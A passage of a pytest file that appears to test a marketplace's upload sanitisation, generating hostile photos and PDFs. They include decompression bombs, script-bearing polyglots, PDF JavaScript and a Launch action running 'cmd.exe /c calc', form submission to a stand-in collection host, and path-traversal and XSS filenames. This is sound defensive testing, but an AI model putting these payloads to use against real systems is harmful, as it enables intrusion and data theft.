"""Hostile uploads (issue #8) through the real upload pages: a listing's photos and the onboarding
documents (PAN card, bank proof).

Every file is made here from code. Each one is either refused (422, a message the person can act
on, what they typed still on the page, and nothing stored: no new row, no new file or folder under
the storage root), or rewritten: what is stored is a fresh image Pillow made from the pixels, never
the uploaded bytes, with no metadata and nothing of the payload. A PDF is rewritten too: what is
stored is the copy qpdf writes, in which no action, script, XFA form or attached file is left
anywhere (every object is looked at), and it is served only with a fixed type, nosniff and a
sandboxing Content-Security-Policy.

The corpus shares one app, with one seller for photos and one for documents, because setting up a
seller costs more than the uploads themselves; each photo goes to a listing of its own.
"""

import contextlib
import functools
import html
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import NamedTuple

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from sqlalchemy import select

from odop_bazaar.extensions import db
from odop_bazaar.models import Listing, ListingPhoto, Seller, SellerDocument
from odop_bazaar.services.catalogue import listings
from tests.conftest import log_in, make_test_app, submit
from tests.factories import make_jpeg, make_pdf, make_places, make_seller
from tests.pdf_samples import active_content, pdf_with_packed_objects, with_pikepdf

# ---------------------------------------------------------------------------------------------
# Building the files


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, depth: int, colour_type: int, rows: bytes | None = None,
        extra: bytes = b"") -> bytes:
    """A PNG written by hand, for what Pillow will not write (16-bit colour, lying headers)."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    body = zlib.compress(rows, 9) if rows is not None else b""
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + extra
            + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b""))


def png_bomb(side: int) -> bytes:
    """A real 1-bit PNG of side × side black pixels: some kilobytes that decode to side² pixels."""
    row = b"\0" * (1 + (side + 7) // 8)  # filter byte, then the row's bits
    pack = zlib.compressobj(9)
    pixels = b"".join(pack.compress(row) for _ in range(side)) + pack.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", pixels)
            + png_chunk(b"IEND", b""))


def png_header_only(width: int, height: int) -> bytes:
    """A tiny file whose header claims width × height RGB pixels."""
    return png(width, height, depth=8, colour_type=2)


def png_text_bomb() -> bytes:
    """A still PNG with a zTXt chunk that unpacks to 16 MB."""
    text = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b" " * (16 << 20), 9))
    return png(400, 400, depth=8, colour_type=0, rows=(b"\0" + b"\x80" * 400) * 400, extra=text)


def png_16bit_rgb(alpha: bool = False) -> bytes:
    # Each channel in 16 bits: (0xff00, 0x8000, 0x2000) reads as (255, 128, 32) in 8 bits. With
    # alpha, the left half is transparent.
    opaque = b"\xff\x00\x80\x00\x20\x00" + (b"\xff\xff" if alpha else b"")
    clear = b"\0" * len(opaque)
    row = b"\0" + (clear * 200 + opaque * 200 if alpha else opaque * 400)
    return png(400, 400, depth=16, colour_type=6 if alpha else 2, rows=row * 400)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A 16 × 16 JPEG whose frame header says width × height: a few hundred bytes."""
    data = bytearray(encode(Image.new("L", (16, 16), 90), "JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5:frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


SCRIPT = b"<script>alert(1)</script><html>"


def photo() -> bytes:
    return make_jpeg(640, 480, gps=True)


def with_transparency(mode: str) -> bytes:
    """400 × 400, transparent round the edge, an opaque red (or grey) square in the middle."""
    if mode == "P":
        image = Image.new("P", (400, 400), 0)
        image.putpalette([0, 0, 0, 200, 30, 30])
        image.paste(1, (100, 100, 300, 300))
        return encode(image, "PNG", transparency=0)
    image = Image.new(mode, (400, 400), 0)  # every channel 0: transparent black
    image.paste((200, 30, 30, 255) if mode == "RGBA" else (120, 255), (100, 100, 300, 300))
    return encode(image, "PNG")


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (400, 400), colour) for colour in ((200, 30, 30), (30, 30, 200))]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def zip_of(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def docx() -> bytes:
    return zip_of({
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                               '.org/package/2006/content-types"/>',
        "word/document.xml": "<w:document><w:body>PAN card</w:body></w:document>",
        "word/vbaProject.bin": "macro",
    })


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">'
       b"<script>alert(1)</script><rect width='400' height='400'/></svg>")


def photocd_behind_jpeg_signature() -> bytes:
    """A Kodak PhotoCD image (768 × 512) whose first bytes are a JPEG's.

    Pillow, asked to open it without naming the format, fails as a JPEG and then tries its other
    formats in turn, and PhotoCD's (found at byte 2048) takes it.
    """
    data = bytearray(b"\xff\xd8\xff\xd9".ljust(2048, b"\0") + b"PCD_IPI".ljust(1539, b"\0"))
    data = data.ljust(96 * 2048, b"\0")
    return bytes(data + bytes(range(256)) * (768 * 512 * 3 // 2 // 256))


def pdf_with(catalogue_extra: bytes) -> bytes:
    return make_pdf().replace(b"/Type /Catalog", b"/Type /Catalog " + catalogue_extra)


def pdf_with_object_stream(objects: bytes, *, packed: bytes | None = None,
                           trailer: bytes = b"") -> bytes:
    """A PDF 1.5 whose catalogue opens object 6, kept in a compressed object stream."""
    packed = zlib.compress(objects) if packed is None else packed
    first = len(b"6 0 ")
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (first, len(packed)) + packed + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.5\n")
    for number, body in enumerate(bodies, start=1):
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    return bytes(out + b"trailer\n<< /Size 7 /Root 1 0 R " + trailer
                 + b">>\nstartxref\n0\n%%EOF\n")


SCRIPT_ACTION = b"6 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


def pdf_script_behind_a_false_endstream() -> bytes:
    """The packed data holds the word "endstream" (in a stored block) before the script."""
    decoy = b"% endstream\n"
    stored = b"\x00" + struct.pack("<HH", len(decoy), 0xFFFF ^ len(decoy)) + decoy
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = raw.compress(SCRIPT_ACTION) + raw.flush()
    packed = (b"\x78\x01" + stored + rest
              + struct.pack(">I", zlib.adler32(decoy + SCRIPT_ACTION)))
    assert zlib.decompress(packed) == decoy + SCRIPT_ACTION
    return pdf_with_object_stream(b"", packed=packed)


def pdf_encrypted() -> bytes:
    """Encrypted: the object stream's bytes are ciphertext, which cannot be unpacked."""
    ciphertext = bytes((i * 73 + 41) % 256 for i in range(600))
    return pdf_with_object_stream(b"", packed=ciphertext, trailer=b"/Encrypt 9 0 R ")


HIDDEN_SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


def action(pdf: pikepdf.Pdf, kind: str, **entries) -> pikepdf.Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name("/" + kind), **entries))


def script(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return action(pdf, "JavaScript", JS=String("app.alert(1)"))


def open_action(kind: str, **entries) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action(pdf, kind, **entries)
    return change


def page_submits_form(pdf: pikepdf.Pdf) -> None:
    """The page's /AA: on opening, send the form to a web address; on closing, a script."""
    submit_form = action(pdf, "SubmitForm", Flags=4,
                         F=Dictionary(FS=Name.URL, F=String("https://collect.invalid/in")))
    pdf.pages[0].obj.AA = Dictionary(O=submit_form, C=script(pdf))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
                          b"<script>app.alert(1)</script></template></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    pdf.Root.NeedsRendering = True


def javascript_name_tree(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("init"), script(pdf)])))


def attached_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\0 a program")


def attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\0 a program", filename="invoice.exe")
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 600, 90, 618]),
        FS=spec.obj))])


def annotations_with_actions(pdf: pikepdf.Pdf) -> None:
    """Links out, to a share and to a script; a button that sends the form; a movie; and one
    link within the document, whose go-to chains a script on."""
    def annotation(subtype: str, **entries) -> pikepdf.Dictionary:
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype),
                                            Rect=Array([72, 600, 300, 620]), **entries))

    go_to_page = action(pdf, "GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=script(pdf))
    button = annotation("Widget", FT=Name.Btn, T=String("send"),
                        A=action(pdf, "SubmitForm", F=String("https://collect.invalid/in")))
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    pdf.Root.AcroForm.Fields.append(button)
    pdf.pages[0].obj.Annots = Array([
        annotation("Link", A=action(pdf, "URI", URI=String("https://phish.invalid/login"))),
        annotation("Link", A=action(pdf, "GoToR", F=String("//server/share/statement.pdf"),
                                    D=Array([0, Name.Fit]))),
        annotation("Link", A=action(pdf, "Launch", F=String("cmd.exe"))),
        annotation("Link", A=script(pdf)),
        button,
        annotation("Screen", A=action(pdf, "Rendition", JS=String("app.alert(1)"))),
        annotation("Link", A=go_to_page),
    ])


def pdf_html_polyglot() -> bytes:
    """A real PDF that a browser sniffing it would also take for a page: HTML in a comment
    after the header, and after the end of the file."""
    pdf = make_pdf()
    header = pdf.index(b"\n") + 1
    return (pdf[:header] + b"%<html><body><script>alert(1)</script>\n" + pdf[header:]
            + b"<html><body><script>alert(1)</script></body></html>\n%%EOF\n")


HTML_WITH_PDF_HEADER = b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n"
# The same, with just enough ("obj", "%%EOF") to pass a structural look.
HTML_DRESSED_AS_PDF = (b"%PDF-1.7\n1 0 obj\n<html><body><script>alert(1)</script></body></html>\n"
                       b"endobj\n%%EOF\n")

# ---------------------------------------------------------------------------------------------
# What should happen


@dataclass(frozen=True)
class Refused:
    message: str  # part of what the person reads


@dataclass(frozen=True)
class Rewritten:
    """Stored as a fresh image. Documents: in this format; photos: always WebP and JPEG."""

    format: str = ""
    looks: Callable[[Image.Image], None] | None = None  # a check on the stored pixels


CLEANED = "cleaned"  # a PDF written afresh by qpdf, with nothing active left
@dataclass(frozen=True)
class Failed:
    """Photos only: taken by the upload (its header is sound) and found bad only when decoded,
    by the background job: the listing shows the photo as failed, with the reason."""

    message: str  # part of what the seller reads on the listing page


MALFORMED = Refused("Something in that request was not right")  # 400, the general error page
UNREADABLE = Refused("We could not read the text you sent")  # 400, a text field not UTF-8


class Hostile(NamedTuple):
    id: str
    filename: str
    make: Callable[[], bytes]
    photo: object
    document: object
    bomb: bool = False  # must be refused before Pillow decodes a single pixel


def assert_colour(image: Image.Image, at: tuple[int, int], expected: tuple[int, int, int],
                  tolerance: int) -> None:
    actual = image.convert("RGB").getpixel(at)
    assert all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True)), \
        f"{actual} at {at}, not {expected}"


def near(expected: tuple[int, int, int], tolerance: int = 12):
    """The middle of the stored image has this colour (give or take lossy compression)."""
    def check(image: Image.Image) -> None:
        assert_colour(image, (image.width // 2, image.height // 2), expected, tolerance)
    return check


def white_round_the_edge(centre: tuple[int, int, int]):
    """Transparency flattened onto white (not black), and the opaque middle kept."""
    def check(image: Image.Image) -> None:
        assert_colour(image, (3, 3), (255, 255, 255), 10)
        near(centre)(image)
    return check


def white_left_half(image: Image.Image) -> None:
    assert_colour(image, (3, image.height // 2), (255, 255, 255), 10)
    assert_colour(image, (image.width * 3 // 4, image.height // 2), (255, 128, 32), 12)


P_NOT_IMAGE = "This is not a JPEG, PNG, WebP or HEIC photo."
P_DAMAGED = "This photo is damaged or incomplete."
P_TOO_LARGE = "This photo is too large"
P_ANIMATED = "Animated images cannot be used."
P_UNREADABLE_LATER = "It could not be read as an image: the file is damaged or incomplete."
D_NOT_DOCUMENT = "This file is not a PDF, JPEG or PNG."
D_IMAGE_DAMAGED = "This image is damaged or incomplete."
D_PDF_DAMAGED = "This PDF is damaged or incomplete."
D_PDF_ATTACHED = "This PDF has files attached to it, which we do not accept."
D_PDF_PROTECTED = "This PDF is protected with a password."
D_TOO_LARGE = "This image is too large"

cached = functools.cache

CORPUS = [
    # Decompression bombs and lying headers
    Hostile("png-bomb-20000x20000", "bomb.png", cached(lambda: png_bomb(20_000)),
            Refused(P_TOO_LARGE), Refused(D_TOO_LARGE), bomb=True),
    Hostile("png-bomb-9000x9000-under-pillows-own-limit", "bomb.png",
            cached(lambda: png_bomb(9_000)), Refused(P_TOO_LARGE), Refused(D_TOO_LARGE),
            bomb=True),
    Hostile("png-header-only-30000x30000", "huge.png",
            cached(lambda: png_header_only(30_000, 30_000)), Refused(P_TOO_LARGE),
            Refused(D_TOO_LARGE), bomb=True),
    Hostile("jpeg-header-30000x30000-tiny", "huge.jpg",
            cached(lambda: jpeg_claiming(30_000, 30_000)), Refused(P_TOO_LARGE),
            Refused(D_TOO_LARGE), bomb=True),
    Hostile("jpeg-header-65000x800-tiny", "wide.jpg", cached(lambda: jpeg_claiming(65_000, 800)),
            Refused(P_TOO_LARGE), Refused(D_TOO_LARGE), bomb=True),
    Hostile("png-60000x1", "strip.png", cached(lambda: encode(Image.new("L", (60_000, 1)), "PNG")),
            Refused("This photo is too small"), Rewritten("PNG")),
    Hostile("png-ztxt-chunk-unpacking-to-16mb", "text.png", cached(png_text_bomb),
            Refused(P_DAMAGED), Refused(D_IMAGE_DAMAGED)),
    # Polyglots and payloads in metadata
    Hostile("jpeg-with-html-after-eoi", "card.jpg", cached(lambda: photo() + SCRIPT),
            Rewritten(), Rewritten("JPEG")),
    Hostile("jpeg-with-html-in-com-segment", "card.jpg",
            cached(lambda: encode(Image.new("RGB", (640, 480), (90, 60, 30)), "JPEG",
                                  comment=SCRIPT)),
            Rewritten(), Rewritten("JPEG")),
    Hostile("jpeg-with-html-in-exif-and-xmp", "card.jpg",
            cached(lambda: encode(Image.new("RGB", (640, 480), (90, 60, 30)), "JPEG",
                                  exif=_exif_with_script(), xmp=b"<x:xmpmeta>" + SCRIPT)),
            Rewritten(), Rewritten("JPEG")),
    Hostile("png-with-html-after-iend", "card.png",
            cached(lambda: encode(Image.new("RGB", (400, 400), (20, 90, 160)), "PNG") + SCRIPT),
            Rewritten(), Rewritten("PNG")),
    Hostile("png-with-html-as-text-and-colour-profile", "card.png",
            cached(lambda: encode(Image.new("RGB", (400, 400), (20, 90, 160)), "PNG",
                                  pnginfo=_png_text(), icc_profile=SCRIPT)),
            Rewritten(), Rewritten("PNG")),
    Hostile("html-named-jpg", "card.jpg", lambda: b"<!doctype html><html>" + SCRIPT,
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("svg-with-script", "card.svg", lambda: SVG,
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("svg-with-script-named-jpg", "card.jpg", lambda: SVG,
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("svg-with-script-named-png", "card.png", lambda: SVG,
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("zip-named-jpg", "card.jpg", cached(lambda: zip_of({"a.html": SCRIPT.decode()})),
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("docx-named-pdf", "card.pdf", cached(docx),
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("photocd-behind-a-jpeg-signature", "card.jpg", cached(photocd_behind_jpeg_signature),
            Refused(P_DAMAGED), Refused(D_IMAGE_DAMAGED)),
    # Modes and formats that need converting, or that are not photos
    Hostile("png-16-bit-grey", "scan.png",
            cached(lambda: encode(Image.new("I;16", (400, 400), 40_000), "PNG")),
            Rewritten(looks=near((156, 156, 156), 3)), Rewritten("PNG", near((156, 156, 156), 1))),
    Hostile("png-16-bit-rgb", "scan.png", cached(png_16bit_rgb),
            Rewritten(looks=near((255, 128, 32))), Rewritten("PNG", near((255, 128, 32), 1))),
    Hostile("png-16-bit-rgba", "scan.png", cached(lambda: png_16bit_rgb(alpha=True)),
            Rewritten(looks=white_left_half), Rewritten("PNG", white_left_half)),
    Hostile("jpeg-cmyk", "card.jpg",
            cached(lambda: encode(Image.new("CMYK", (400, 400), (0, 255, 255, 0)), "JPEG")),
            Rewritten(looks=near((254, 0, 0), 20)), Rewritten("JPEG", near((254, 0, 0), 20))),
    Hostile("png-palette-with-transparency", "card.png", cached(lambda: with_transparency("P")),
            Rewritten(looks=white_round_the_edge((200, 30, 30))),
            Rewritten("PNG", white_round_the_edge((200, 30, 30)))),
    Hostile("png-grey-with-alpha", "card.png", cached(lambda: with_transparency("LA")),
            Rewritten(looks=white_round_the_edge((120, 120, 120))),
            Rewritten("PNG", white_round_the_edge((120, 120, 120)))),
    Hostile("png-rgba", "card.png", cached(lambda: with_transparency("RGBA")),
            Rewritten(looks=white_round_the_edge((200, 30, 30))),
            Rewritten("PNG", white_round_the_edge((200, 30, 30)))),
    Hostile("jpeg-greyscale", "card.jpg",
            cached(lambda: encode(Image.new("L", (400, 400), 128), "JPEG")),
            Rewritten(looks=near((128, 128, 128), 3)), Rewritten("JPEG", near((128, 128, 128), 3))),
    Hostile("gif-animated", "card.gif", cached(lambda: animated("GIF")),
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("gif-animated-named-jpg", "card.jpg", cached(lambda: animated("GIF")),
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    # A document is one picture of a card: the first frame of an APNG is kept, still.
    Hostile("png-animated-apng", "card.png", cached(lambda: animated("PNG")),
            Refused(P_ANIMATED), Rewritten("PNG", near((200, 30, 30)))),
    Hostile("webp-animated", "card.webp", cached(lambda: animated("WEBP")),
            Refused(P_ANIMATED), Refused(D_NOT_DOCUMENT)),
    # Damaged and empty
    Hostile("jpeg-truncated", "card.jpg", cached(lambda: make_jpeg(800, 600)[:4000]),
            Failed(P_UNREADABLE_LATER), Refused(D_IMAGE_DAMAGED)),
    Hostile("png-truncated", "card.png",
            cached(lambda: encode(Image.effect_noise((400, 400), 60), "PNG")[:30_000]),
            Failed(P_UNREADABLE_LATER), Refused(D_IMAGE_DAMAGED)),
    Hostile("empty-jpg", "card.jpg", lambda: b"",
            Refused("The file is empty. Choose the photo again."),
            Refused("The file is empty. Choose the document again.")),
    Hostile("empty-pdf", "card.pdf", lambda: b"",
            Refused("The file is empty. Choose the photo again."),
            Refused("The file is empty. Choose the document again.")),
    # PDFs: what a reader would run or fetch is taken out, and qpdf's fresh copy is stored
    Hostile("pdf-openaction-javascript", "card.pdf",
            cached(lambda: pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-javascript-hidden-by-name-escapes", "card.pdf",
            cached(lambda: pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-launch-action", "card.pdf",
            cached(lambda: pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
            Refused(P_NOT_IMAGE), CLEANED),
    # Repaired by qpdf (no cross-reference table), which then finds no object stream: the
    # script is not in the copy.
    Hostile("pdf-javascript-in-compressed-object-stream", "card.pdf",
            cached(lambda: pdf_with_object_stream(SCRIPT_ACTION)), Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-javascript-behind-a-false-endstream", "card.pdf",
            cached(pdf_script_behind_a_false_endstream), Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-javascript-claiming-encryption", "card.pdf",
            cached(lambda: pdf_with_object_stream(SCRIPT_ACTION, trailer=b"/Encrypt 9 0 R ")),
            Refused(P_NOT_IMAGE), CLEANED),
    # A reader finds these scripts (test_the_hidden_pdf_scripts_are_what_a_reader_runs); the
    # regular expressions that looked for them did not.
    Hostile("pdf-javascript-in-object-stream-behind-3000-bytes-of-padding", "card.pdf",
            cached(lambda: pdf_with_packed_objects(
                [[HIDDEN_SCRIPT]], stream_extra=b"/Padding (" + b"x" * 3000 + b")")),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-javascript-in-object-stream-with-indirect-filter", "card.pdf",
            cached(lambda: pdf_with_packed_objects([[HIDDEN_SCRIPT]], indirect_filter=True)),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-object-stream-deflate-bomb", "card.pdf",
            cached(lambda: pdf_with_packed_objects(
                [[b" " * (40 << 20) + HIDDEN_SCRIPT]], unpacked=lambda raw: zlib.compress(raw, 9))),
            Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
    Hostile("pdf-openaction-uri", "card.pdf",
            cached(lambda: with_pikepdf(open_action("URI", URI=String("https://phish.invalid")))),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-openaction-gotor-unc-path", "card.pdf",
            cached(lambda: with_pikepdf(open_action(
                "GoToR", F=String("//server/share/statement.pdf"), D=Array([0, Name.Fit])))),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-openaction-launch", "card.pdf",
            cached(lambda: with_pikepdf(open_action(
                "Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-page-aa-submitform", "card.pdf", cached(lambda: with_pikepdf(page_submits_form)),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-xfa-form", "card.pdf", cached(lambda: with_pikepdf(xfa_form)),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-javascript-name-tree", "card.pdf",
            cached(lambda: with_pikepdf(javascript_name_tree)), Refused(P_NOT_IMAGE), CLEANED),
    Hostile("pdf-annotations-with-actions", "card.pdf",
            cached(lambda: with_pikepdf(annotations_with_actions)), Refused(P_NOT_IMAGE), CLEANED),
    # Everything above again, written by pikepdf into object streams.
    Hostile("pdf-every-action-in-object-streams", "card.pdf",
            cached(lambda: with_pikepdf(
                lambda pdf: [change(pdf) for change in (
                    open_action("JavaScript", JS=String("app.alert(1)")), page_submits_form,
                    xfa_form, javascript_name_tree, annotations_with_actions)],
                object_stream_mode=pikepdf.ObjectStreamMode.generate)),
            Refused(P_NOT_IMAGE), CLEANED),
    # Attached files are refused, as they were: the seller meant them to be read.
    Hostile("pdf-embedded-files-name-tree", "card.pdf",
            cached(lambda: pdf_with(b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>")),
            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
    Hostile("pdf-attached-file", "card.pdf", cached(lambda: with_pikepdf(attached_file)),
            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
    Hostile("pdf-file-attachment-annotation", "card.pdf",
            cached(lambda: with_pikepdf(attachment_annotation)),
            Refused(P_NOT_IMAGE), Refused(D_PDF_ATTACHED)),
    # What is encrypted is refused, whether it needs a password to open or only to change it (a
    # bank statement is often like that); a claim of encryption qpdf cannot read is not one.
    Hostile("pdf-encrypted-with-owner-password", "card.pdf",
            cached(lambda: with_pikepdf(lambda pdf: None,
                                        encryption=pikepdf.Encryption(owner="bank", user=""))),
            Refused(P_NOT_IMAGE), Refused(D_PDF_PROTECTED)),
    Hostile("pdf-encrypted-with-user-password", "card.pdf",
            cached(lambda: with_pikepdf(lambda pdf: None,
                                        encryption=pikepdf.Encryption(owner="bank", user="dob"))),
            Refused(P_NOT_IMAGE), Refused(D_PDF_PROTECTED)),
    Hostile("pdf-claiming-encryption-it-does-not-have", "card.pdf", cached(pdf_encrypted),
            Refused(P_NOT_IMAGE), CLEANED),
    # Opening at the first page is not a script, but it goes too: a copy opens at page one.
    Hostile("pdf-openaction-go-to-first-page", "card.pdf",
            cached(lambda: pdf_with(b"/OpenAction [3 0 R /Fit]")), Refused(P_NOT_IMAGE), CLEANED),
    # Polyglots: HTML before the header is not a PDF; HTML inside or after one does not survive
    # the rewriting.
    Hostile("html-before-a-pdf-header", "card.pdf", cached(lambda: SCRIPT + b"\n" + make_pdf()),
            Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("pdf-html-polyglot", "card.pdf", cached(pdf_html_polyglot),
            Refused(P_NOT_IMAGE), CLEANED),
    Hostile("html-with-a-pdf-header", "card.pdf", lambda: HTML_WITH_PDF_HEADER,
            Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
    Hostile("html-dressed-as-pdf", "card.pdf", lambda: HTML_DRESSED_AS_PDF,
            Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
    Hostile("pdf-truncated", "card.pdf", cached(lambda: make_pdf()[:-60]),
            Refused(P_NOT_IMAGE), Refused(D_PDF_DAMAGED)),
    Hostile("pdf-named-jpg", "card.jpg", cached(make_pdf),
            Refused(P_NOT_IMAGE), Refused("This file's name ends in .jpg but it is a PDF.")),
    Hostile("jpeg-named-pdf", "card.pdf", cached(photo),
            Rewritten(), Refused("This file's name ends in .pdf but it is a JPEG.")),
    # Hostile names on a good photo: the name is never used to store or serve the file
    Hostile("name-with-path-traversal", "../../etc/passwd.jpg", cached(photo),
            Rewritten(), Rewritten("JPEG")),
    Hostile("name-5000-characters-long", "a" * 5000 + ".jpg", cached(photo),
            Rewritten(), Rewritten("JPEG")),
    Hostile("name-with-nul", "card\0.php.jpg", cached(photo), Rewritten(), Rewritten("JPEG")),
    Hostile("name-in-devanagari", "पैन कार्ड.jpg", cached(photo), Rewritten(), Rewritten("JPEG")),
    Hostile("name-with-html", "<img src=x onerror=alert(1)>.jpg", cached(photo),
            Rewritten(), Rewritten("JPEG")),
    Hostile("name-with-html-on-a-bad-file", "<img src=x onerror=alert(1)>.jpg",
            lambda: b"not an image", Refused(P_NOT_IMAGE), Refused(D_NOT_DOCUMENT)),
    Hostile("name-with-html-extension", "card.<img src=x onerror=alert(1)>", cached(photo),
            Rewritten(), Refused("This file's name ends in .<img src=x but it is a JPEG.")),
    # A browser sends a newline in a name as %0A. Sent raw (curl can), the part's header ends
    # there and the file's bytes arrive as a text field, which is not UTF-8: the request is
    # refused before any view sees it.
    Hostile("name-with-raw-newline", "card\n.jpg", cached(photo), UNREADABLE, UNREADABLE),
]


def _exif_with_script() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()  # ImageDescription
    exif[0x013B] = SCRIPT.decode()  # Artist
    exif[0x0112] = 1
    return exif


def _png_text():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_text("Description", SCRIPT.decode(), zip=True)
    return info


CASES = [pytest.param(item, id=item.id) for item in CORPUS]


# ---------------------------------------------------------------------------------------------
# The shop


TITLE = "Hostile corpus saree"
PAYLOAD = (b"<script", b"<html", b"alert(", b"<svg", b"PhoneMaker", b"xmpmeta")


@dataclass
class Site:
    base: Path  # the test's folder: storage, database and mail are all under it
    app: object
    photo_seller: int
    photo_client: object
    document_seller: int
    document_client: object


@pytest.fixture(scope="module")
def site(shared_database_url, tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    with contextlib.contextmanager(make_test_app)(shared_database_url, base) as app:
        make_places(app)
        photo_email, photo_seller = make_seller(app, "approved")
        document_email, document_seller = make_seller(app, "complete")
        photo_client, document_client = app.test_client(), app.test_client()
        log_in(photo_client, photo_email)
        log_in(document_client, document_email)
        yield Site(base, app, photo_seller, photo_client, document_seller, document_client)


def storage_tree(app) -> set[str]:
    """Every file and folder under the storage root, temporary files included."""
    root = app.extensions["storage"]["public"].root.parent
    return {str(p.relative_to(root)) for p in root.rglob("*")} if root.exists() else set()


def row_ids(app, model) -> set[int]:
    with app.app_context():
        return set(db.session.scalars(select(model.id)))


@pytest.fixture
def no_decoding(monkeypatch):
    """Fail the test outright if Pillow starts decoding pixels."""
    def forbidden(*args, **kwargs):
        raise AssertionError("Pillow was asked to decode a decompression bomb")

    monkeypatch.setattr(Image, "_getdecoder", forbidden)


def page_of(response) -> str:
    page = response.get_data(as_text=True)
    # Whatever the name or file held, it reaches the page only escaped.
    # (the site header draws its icons as inline SVG: the uploaded one starts "<svg xmlns")
    for raw in ("<script>alert(1)", "<img src=x", "<svg xmlns"):
